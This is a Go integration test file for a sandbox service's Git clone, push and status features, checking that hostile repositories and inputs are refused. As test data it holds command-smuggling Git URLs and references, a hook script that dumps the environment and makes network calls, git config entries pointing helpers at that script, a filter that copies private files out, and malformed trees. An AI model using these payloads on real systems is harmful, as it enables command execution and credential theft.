package integration

import (
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"google.golang.org/grpc/codes"

	sandboxv1 "github.com/fairlead/fairlead/gen/go/fairlead/sandbox/v1"
	"github.com/fairlead/fairlead/services/internal/kit/apierr"
	"github.com/fairlead/fairlead/services/sandbox"
	"github.com/fairlead/fairlead/services/sandbox/gittest"
	"github.com/fairlead/fairlead/services/sandbox/internal/mount"
)

func TestRemotesThatAreNotAllowedAreRefused(t *testing.T) {
	t.Parallel()
	f := gittest.New(t)
	f.Publish("read-only", map[string]string{"a": "a"})
	var data string
	c := open(t, sandbox.LevelBasic, allow(f), func(c *sandbox.Config) { data = c.Data })
	for _, x := range []struct{ name, url, ref, directory, reason string }{
		{name: "a transport that runs a program", url: "ext::sh -c touch% /tmp/pwned", reason: "BAD_REPOSITORY"},
		{name: "a file", url: "file:///etc", reason: "BAD_REPOSITORY"},
		{name: "a path", url: "/etc", reason: "BAD_REPOSITORY"},
		{name: "plain HTTP", url: strings.Replace(f.Repo("read-only"), "https", "http", 1), reason: "BAD_REPOSITORY"},
		{name: "SSH", url: "ssh://-oProxyCommand=touch%20x/org/app", reason: "BAD_REPOSITORY"},
		{name: "SSH in short", url: "git@127.0.0.1:org/app", reason: "BAD_REPOSITORY"},
		{name: "an option", url: "--upload-pack=touch /tmp/pwned", reason: "BAD_REPOSITORY"},
		{name: "a user name", url: strings.Replace(f.Repo("read-only"), "//", "//a:b@", 1), reason: "BAD_REPOSITORY"},
		{name: "a query", url: f.Repo("read-only") + "?x=y", reason: "BAD_REPOSITORY"},
		{name: "dots", url: f.URL + "/org/../other/app.git", reason: "BAD_REPOSITORY"},
		{name: "encoded dots", url: f.URL + "/org/%2e%2e/app.git", reason: "BAD_REPOSITORY"},
		{name: "a line break", url: f.Repo("read-only") + "\nx", reason: "BAD_REPOSITORY"},
		{name: "another path", url: f.URL + "/other/app.git", reason: "REMOTE_NOT_ALLOWED"},
		{name: "another host", url: "https://example.com/org/read-only.git", reason: "REMOTE_NOT_ALLOWED"},
		{name: "another port", url: "https://127.0.0.1:1/org/read-only.git", reason: "REMOTE_NOT_ALLOWED"},
		{name: "a reference that is an option", url: f.Repo("read-only"), ref: "--upload-pack=x", reason: "BAD_REPOSITORY"},
		{name: "a reference that is an expression", url: f.Repo("read-only"), ref: "HEAD@{1}", reason: "BAD_REPOSITORY"},
		{name: "a reference that is not there", url: f.Repo("read-only"), ref: "nowhere", reason: "GIT_FAILED"},
		{name: "a repository that is not there", url: f.URL + "/org/read-nothing.git", reason: "GIT_FAILED"},
	} {
		_, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: x.url, Ref: x.ref, Directory: "x"})
		if got := apierr.Reason(err); got != x.reason {
			t.Errorf("%s: %v with reason %q, want %q", x.name, err, got, x.reason)
		}
	}
	for _, directory := range []string{"../x", ".git", "a/b", "-x", ".x", "x\x00"} {
		if _, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.Repo("read-only"), Directory: directory}); apierr.Code(err) != codes.InvalidArgument {
			t.Errorf("the directory %q: %v", directory, err)
		}
	}
	if r := c.bash(t, "ls -A /workspace /workspace/repos"); r.out != "/workspace:\n"+standardFolders+"\n/workspace/repos:\n" {
		t.Errorf("left %q", r.out)
	}
	if left, err := filepath.Glob(filepath.Join(data, "*", "*", "staging", "*")); err != nil || len(left) > 0 {
		t.Errorf("left %v, %v", left, err)
	}
	if _, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.Repo("read-only")}); err != nil {
		t.Fatal(err)
	}
	_, err := c.repos.PushRepository(t.Context(), &sandboxv1.PushRepositoryRequest{Call: c.call(), Directory: "read-only", Url: f.Repo("read-only")})
	if !apierr.Is(err, sandboxv1.ErrorReason_ERROR_REASON_REMOTE_NOT_ALLOWED) || apierr.Code(err) != codes.PermissionDenied {
		t.Errorf("a push where only clones are allowed: %v", err)
	}
}

// TestAHostileRepositoryRunsNothingWithTheCredential has a session write whatever a
// repository may say into one, and then has it pushed.
func TestAHostileRepositoryRunsNothingWithTheCredential(t *testing.T) {
	t.Parallel()
	f := gittest.New(t)
	f.Publish("app", map[string]string{".gitattributes": "* filter=evil diff=evil merge=evil\n", ".gitmodules": "[submodule \"x\"]\n\tpath = x\n\turl = ext::sh -c touch% /workspace/pwned\n", "a": "a"})
	everywhere(t, func(t *testing.T, level string, change func(*sandbox.Config)) {
		c := open(t, level, change, allow(f))
		if _, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.Repo("app"), Branch: "evil-" + level}); err != nil {
			t.Fatal(err)
		}
		// What is run leaves a mark wherever it can, among others in the workspace.
		r := c.bash(t, `cd repos/app
			echo b > b && git add -A && `+commit+` -m b
			printf '#!/bin/sh\nid > /workspace/pwned; env > /workspace/pwned.env; curl -sk -m 5 -x http://127.0.0.1:3128 "$0" > /workspace/pwned.net\n' > /workspace/evil; chmod +x /workspace/evil
			for h in pre-push post-checkout pre-commit reference-transaction post-index-change; do cp /workspace/evil .git/hooks/$h 2>/dev/null || { mkdir -p .git/hooks; cp /workspace/evil .git/hooks/$h; }; done
			for k in core.sshCommand core.gitProxy core.askPass core.editor core.pager credential.helper gpg.program filter.evil.clean filter.evil.smudge filter.evil.process diff.evil.command diff.evil.textconv uploadpack.packObjectsHook remote.origin.receivepack remote.origin.vcs; do git config $k /workspace/evil; done
			git config filter.evil.required true; git config core.hooksPath /workspace/repos/app/.git/hooks
			git config url.ext::/workspace/evil.insteadOf `+f.URL+`; git config url.https://evil.example.com/.pushInsteadOf `+f.URL+`
			git config http.proxy http://127.0.0.1:1; git config http.sslVerify false; git config http.extraHeader 'X-Evil: yes'; git config push.pushOption evil; git config push.followTags true
			mkdir -p .git/info /home/agent/.config/git; cp .git/config /home/agent/.gitconfig; cp .git/config /home/agent/.config/git/config
			echo 'machine 127.0.0.1 login evil password evil' > /home/agent/.netrc
			echo DONE`)
		if !strings.Contains(r.out, "DONE") {
			t.Fatalf("%q %q", r.out, r.err)
		}
		p, err := c.repos.PushRepository(t.Context(), &sandboxv1.PushRepositoryRequest{Call: c.call(), Directory: "app", Url: f.Repo("app"), Branch: "evil-" + level})
		if err != nil {
			t.Fatal(err)
		}
		if got := f.Git("-C", f.Dir+"/org/app.git", "rev-parse", "refs/heads/evil-"+level); got != p.GetNewCommit() {
			t.Errorf("the remote has %s, want %s", got, p.GetNewCommit())
		}
		if r := c.bash(t, "cat pwned* 2>/dev/null"); r.out != "" {
			t.Errorf("the push ran something of the session's: %s", r.out)
		}
		// Status runs in the session's own sandbox, without a network: what runs there is
		// no more than the session's commands can run.
		st, err := c.repos.GetRepositoryStatus(t.Context(), &sandboxv1.GetRepositoryStatusRequest{Session: c.session, Directory: "app"})
		if err != nil && !apierr.Is(err, sandboxv1.ErrorReason_ERROR_REASON_GIT_FAILED) {
			t.Errorf("status: %v, %v", st, err)
		}
		if r := c.bash(t, "cat pwned.net pwned.env 2>/dev/null"); strings.Contains(r.out, gittest.Secret) || strings.Contains(r.out, "3128") {
			t.Errorf("status ran something with a way out: %s", r.out)
		}
	})
}

func TestRepositoriesThatCannotBeUsedAreRefused(t *testing.T) {
	t.Parallel()
	f := gittest.New(t)
	f.Publish("app", map[string]string{"a": "a"})
	c := open(t, sandbox.LevelBasic, allow(f))
	if _, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.Repo("app")}); err != nil {
		t.Fatal(err)
	}
	push := func(directory string) error {
		_, err := c.repos.PushRepository(t.Context(), &sandboxv1.PushRepositoryRequest{Call: c.call(), Directory: directory, Url: f.Repo("app")})
		return err
	}
	for _, x := range []struct{ name, script, directory, reason string }{
		{"there is none", "true", "none", "REPOSITORY_NOT_FOUND"},
		{"its folder is a link out", "ln -s /etc repos/out", "out", "REPOSITORY_NOT_FOUND"},
		{"its .git is a link out", "mkdir repos/link; ln -s /etc repos/link/.git", "link", "REPOSITORY_NOT_FOUND"},
		{"its .git is a file", "mkdir repos/file; echo gitdir: /workspace/repos/app/.git > repos/file/.git", "file", "REPOSITORY_NOT_FOUND"},
		{"its .git is a pipe", "mkdir repos/pipe; mkfifo repos/pipe/.git", "pipe", "REPOSITORY_NOT_FOUND"},
		{"its .git is empty", "mkdir -p repos/empty/.git", "empty", "GIT_FAILED"},
		{"its objects are gone", "cp -r repos/app repos/gone; cd repos/gone; " + commit + " --allow-empty -m x; rm -rf .git/objects/*", "gone", "PUSH_REJECTED"},
		{"it stands on nothing", "cp -r repos/app repos/detached; git -C repos/detached checkout -q --detach", "detached", "GIT_FAILED"},
	} {
		c.bash(t, x.script)
		if err := push(x.directory); apierr.Reason(err) != x.reason {
			t.Errorf("%s: %v", x.name, err)
		}
	}
	if _, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.Repo("app")}); !apierr.Is(err, sandboxv1.ErrorReason_ERROR_REASON_REPOSITORY_EXISTS) {
		t.Errorf("a clone over another: %v", err)
	}
	c.bash(t, "rm -rf repos; ln -s /etc repos")
	if _, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.Repo("app")}); !apierr.Is(err, sandboxv1.ErrorReason_ERROR_REASON_PATH_ESCAPES) {
		t.Errorf("a clone through a link: %v", err)
	}
}

// TestAHostileTreeDoesNotComeOut clones commits that no honest Git makes.
func TestAHostileTreeDoesNotComeOut(t *testing.T) {
	t.Parallel()
	f := gittest.New(t)
	c := open(t, sandbox.LevelBasic, allow(f))
	for i, path := range []string{".git/config", ".GIT/config", "a/.Git/hooks/post-checkout", "git~1/config", "..", ".git\u200c/config"} {
		name := fmt.Sprintf("tree-%d", i)
		f.Publish(name, map[string]string{"x": "x"})
		bare := filepath.Join(f.Dir, "org", name+".git")
		blob := f.Git("-C", bare, "rev-parse", "HEAD:x")
		tree := ""
		parts := strings.Split(path, "/")
		for j := len(parts) - 1; j >= 0; j-- { // hash-object checks nothing when it is told so
			mode, sha := "100755", blob
			if tree != "" {
				mode, sha = "40000", tree
			}
			raw := filepath.Join(f.Dir, "tree")
			entry := append([]byte(mode+" "+parts[j]+"\x00"), unhex(t, sha)...)
			if err := os.WriteFile(raw, entry, 0o600); err != nil {
				t.Fatal(err)
			}
			tree = f.Git("-C", bare, "hash-object", "-t", "tree", "-w", "--literally", raw)
		}
		bad := f.Git("-C", bare, "commit-tree", tree, "-m", "evil")
		f.Git("-C", bare, "update-ref", "refs/heads/main", bad)
		if _, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.Repo(name)}); !apierr.Is(err, sandboxv1.ErrorReason_ERROR_REASON_GIT_FAILED) {
			t.Errorf("%s: %v", path, err)
		}
	}
}

func unhex(t *testing.T, s string) []byte {
	t.Helper()
	var b []byte
	if _, err := fmt.Sscanf(s, "%x", &b); err != nil {
		t.Fatal(err)
	}
	return b
}

func TestARedirectDoesNotTakeTheCredentialAlong(t *testing.T) {
	t.Parallel()
	f := gittest.New(t)
	f.Publish("app", map[string]string{"a": "a"})
	other := gittest.New(t)
	other.Publish("app", map[string]string{"a": "a"})
	c := open(t, sandbox.LevelBasic, allow(f))
	for _, to := range []string{other.URL + "/org/app.git/info/refs?service=git-upload-pack", f.URL + "/secret/info/refs?service=git-upload-pack"} {
		before := len(f.Requests())
		f.Meddle(func(w http.ResponseWriter, r *http.Request) bool {
			if !strings.HasPrefix(r.URL.Path, "/org/app.git/") {
				return false
			}
			http.Redirect(w, r, to, http.StatusFound)
			return true
		})
		if _, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.Repo("app")}); !apierr.Is(err, sandboxv1.ErrorReason_ERROR_REASON_GIT_FAILED) {
			t.Errorf("%s: %v", to, err)
		}
		if slices.ContainsFunc(f.Requests()[before:], func(s string) bool { return strings.Contains(s, "/secret/") }) {
			t.Errorf("another path was asked for: %v", f.Requests()[before:])
		}
	}
	if len(other.Requests()) > 0 {
		t.Errorf("the other host was asked: %v", other.Requests())
	}
}

func TestARepositoryThatDoesNotFitIsRefused(t *testing.T) {
	t.Parallel()
	f := gittest.New(t)
	random := make([]byte, 4<<20)
	for i := range random {
		random[i] = byte(i * i >> 3 * 7)
	}
	f.Publish("large", map[string]string{"a": string(random), "b": string(random[1:])})
	many := map[string]string{}
	for i := range 600 {
		many[fmt.Sprintf("d%d/f", i)] = "x"
	}
	f.Publish("many", many)
	everywhere(t, func(t *testing.T, level string, change func(*sandbox.Config)) {
		c := open(t, level, change, allow(f), func(c *sandbox.Config) { c.Limits.WorkspaceBytes, c.Limits.WorkspaceInodes = 6<<20, 500 })
		for _, name := range []string{"large", "many"} {
			_, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.Repo(name)})
			if !apierr.Is(err, sandboxv1.ErrorReason_ERROR_REASON_WORKSPACE_FULL) || apierr.Code(err) != codes.ResourceExhausted {
				t.Errorf("%s: %v", name, err)
			}
		}
		if r := c.bash(t, "ls -A repos; echo fine"); r.out != "fine\n" {
			t.Errorf("afterwards %q", r.out)
		}
	})
}

func TestACloneIsMadeOnceForACall(t *testing.T) {
	t.Parallel()
	f := gittest.New(t)
	first := f.Publish("app", map[string]string{"a": "a"})
	c := open(t, sandbox.LevelBasic, allow(f))
	r := &sandboxv1.CloneRepositoryRequest{Call: c.named("clone.1"), Url: f.Repo("app"), Ref: first}
	one, _, err := c.clone(t, r)
	if err != nil || one.GetBranch() != "" || one.GetCommit() != first {
		t.Fatalf("%v, %v", one, err)
	}
	n := len(f.Requests())
	c.bash(t, "rm -rf repos/app")
	again, _, err := c.clone(t, r)
	if err != nil || again.GetCommit() != first || len(f.Requests()) != n {
		t.Errorf("again: %v, %v", again, err)
	}
	_, _, err = c.clone(t, &sandboxv1.CloneRepositoryRequest{Call: c.named("clone.1"), Url: f.Repo("app"), Directory: "other"})
	wantReason(t, err, "CALL_ID_REUSED")
	c.epoch = 5
	c.ensure(t.Context(), t)
	c.epoch = 4
	_, _, err = c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.Repo("app")})
	wantReason(t, err, "STALE_EPOCH")
}

func TestAShallowCloneAndARejectedPush(t *testing.T) {
	t.Parallel()
	f := gittest.New(t)
	f.Publish("app", map[string]string{"a": "a"})
	work := filepath.Join(f.Dir, "work-app")
	for i := range 3 {
		f.Git("-C", work, "commit", "-q", "--allow-empty", "-m", strconv.Itoa(i))
	}
	f.Git("-C", work, "push", "-q", filepath.Join(f.Dir, "org", "app.git"), "main")
	c := open(t, sandbox.LevelBasic, allow(f))
	if _, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.Repo("app"), Depth: 1, Ref: "main"}); err != nil {
		t.Fatal(err)
	}
	if r := c.bash(t, "cd repos/app && git rev-list --count HEAD && echo b > b && git add b && "+commit+" -m mine"); r.out != "1\n" {
		t.Fatalf("%q %q", r.out, r.err)
	}
	push := func() (*sandboxv1.PushRepositoryResponse, error) {
		return c.repos.PushRepository(t.Context(), &sandboxv1.PushRepositoryRequest{Call: c.call(), Directory: "app", Url: f.Repo("app")})
	}
	if p, err := push(); err != nil || p.GetRef() != "refs/heads/main" {
		t.Fatalf("%v, %v", p, err)
	}
	f.Git("-C", work, "commit", "-q", "--allow-empty", "-m", "theirs")
	f.Git("-C", work, "push", "-q", "--force", filepath.Join(f.Dir, "org", "app.git"), "main")
	if _, err := push(); !apierr.Is(err, sandboxv1.ErrorReason_ERROR_REASON_PUSH_REJECTED) || apierr.Code(err) != codes.Aborted {
		t.Errorf("a push over commits of another user: %v", err)
	}
	b, err := c.repos.CreateBranch(t.Context(), &sandboxv1.CreateBranchRequest{Call: c.call(), Directory: "app", Branch: "mine"})
	if err != nil || b.GetRepository().GetBranch() != "mine" {
		t.Fatalf("%v, %v", b, err)
	}
	if p, err := push(); err != nil || p.GetRef() != "refs/heads/mine" {
		t.Errorf("%v, %v", p, err)
	}
	_, err = c.repos.CreateBranch(t.Context(), &sandboxv1.CreateBranchRequest{Call: c.call(), Directory: "app", Branch: "main"})
	wantReason(t, err, "BRANCH_EXISTS")
	p, err := c.repos.PushRepository(t.Context(), &sandboxv1.PushRepositoryRequest{Call: c.call(), Directory: "app", Url: f.Repo("app"), OnlyNew: true})
	if err != nil || !p.GetUpToDate() {
		t.Errorf("%v, %v", p, err)
	}
}

func TestANewRepositoryIsMade(t *testing.T) {
	t.Parallel()
	f := gittest.New(t)
	c := open(t, sandbox.LevelBasic, allow(f))
	add := func(directory, url string) (*sandboxv1.AddRepositoryResponse, error) {
		return c.repos.AddRepository(t.Context(), &sandboxv1.AddRepositoryRequest{Call: c.call(), Directory: directory, Url: url, Branch: "trunk"})
	}
	made, err := add("new", f.Repo("app"))
	if err != nil || !made.GetCreated() || made.GetRepository().GetBranch() != "trunk" || made.GetRepository().GetUrl() != f.Repo("app") || made.GetRepository().GetCommit() != "" {
		t.Fatalf("%v, %v", made, err)
	}
	if again, err := add("new", ""); err != nil || again.GetCreated() || again.GetRepository().GetUrl() != f.Repo("app") {
		t.Errorf("again: %v, %v", again, err)
	}
	if r := c.bash(t, "cd repos/new && touch f && git add f && git status --short && git symbolic-ref HEAD"); r.out != "A  f\nrefs/heads/trunk\n" {
		t.Errorf("a command finds %q, %s", r.out, r.err)
	}
	_, err = add("other", "https://example.com/x")
	wantReason(t, err, "REMOTE_NOT_ALLOWED")
	_, err = c.repos.RemoveRepository(t.Context(), &sandboxv1.RemoveRepositoryRequest{Call: c.call(), Directory: "none"})
	wantReason(t, err, "REPOSITORY_NOT_FOUND")
}

// A repository may keep Git waiting as long as it likes when that looks at it. It takes no
// more of the node's places for commands than the session has.
func TestAHostileRepositoryTakesTheNodeFromNobody(t *testing.T) {
	t.Parallel()
	atLevel(t, func(t *testing.T, level string) {
		const asked = 6
		c := open(t, level, func(cfg *sandbox.Config) { cfg.Limits.Execs, cfg.Limits.SessionExecs = asked, 2 })
		neighbor := *c
		neighbor.session = "sessions/neighbor"
		neighbor.ensure(t.Context(), t)
		r := c.bash(t, "git init -q repos/slow && mkfifo repos/slow/.git/index") // Git waits for a writer
		if r.GetExitCode() != 0 {
			t.Fatal(r.err)
		}
		ends := make(chan error, asked)
		for range asked {
			go func() {
				_, err := c.repos.GetRepositoryStatus(t.Context(), &sandboxv1.GetRepositoryStatusRequest{Session: c.session, Directory: "slow"})
				ends <- err
			}()
		}
		for range asked - 2 {
			wantReason(t, <-ends, "TOO_MANY_EXECS")
		}
		if _, err := neighbor.exec(t.Context(), "true", nil); err != nil {
			t.Errorf("a neighbor's command: %v", err)
		}
		for left := 2; left > 0; {
			c.bash(t, ": <>repos/slow/.git/index") // one of them may not be there yet
			select {
			case err := <-ends:
				wantReason(t, err, "GIT_FAILED")
				left--
			case <-time.After(20 * time.Millisecond):
			}
		}
	})
}

// In a shared session a repository's filters are what any member wrote. Who looks at it has
// mounts that the member has not.
func TestALookAtARepositoryShowsItsFiltersNoMount(t *testing.T) {
	t.Parallel()
	atLevel(t, func(t *testing.T, level string) {
		dir := sources(t, "private")
		c := open(t, level, func(c *sandbox.Config) {
			c.Mounts = []mount.Rule{{Name: "private", Source: dir + "/private", Alias: "mnt/private", For: []string{"default/ann"}}}
		})
		r := c.says(t, "bob", `git init -q repos/r && cd repos/r && echo '* filter=steal' >.gitattributes && echo one >f && git add . && `+commit+` -m one &&
			git config filter.steal.clean 'cat /workspace/mnt/private/* >>/workspace/stolen; cat' && sed -i s/one/two/ f && touch -d 2001-01-01 .gitattributes`)
		if r.GetExitCode() != 0 {
			t.Fatal(r.err)
		}
		if r := c.says(t, "ann", "cat mnt/private/file"); r.out != "private\n" {
			t.Fatalf("ann sees %q", r.out)
		}
		st, err := c.repos.GetRepositoryStatus(as(t.Context(), "ann"), &sandboxv1.GetRepositoryStatusRequest{Session: c.session, Directory: "r"})
		if err != nil || len(st.GetFiles()) != 1 || st.GetFiles()[0].GetPath() != "f" {
			t.Errorf("status: %v, %v", st, err)
		}
		if _, err := c.repos.CreateBranch(as(t.Context(), "ann"), &sandboxv1.CreateBranchRequest{Call: c.call(), Directory: "r", Branch: "b"}); err != nil {
			t.Error(err)
		}
		if r := c.says(t, "bob", "cat stolen"); strings.Contains(r.out, "private") {
			t.Errorf("bob has %q", r.out)
		}
	})
}
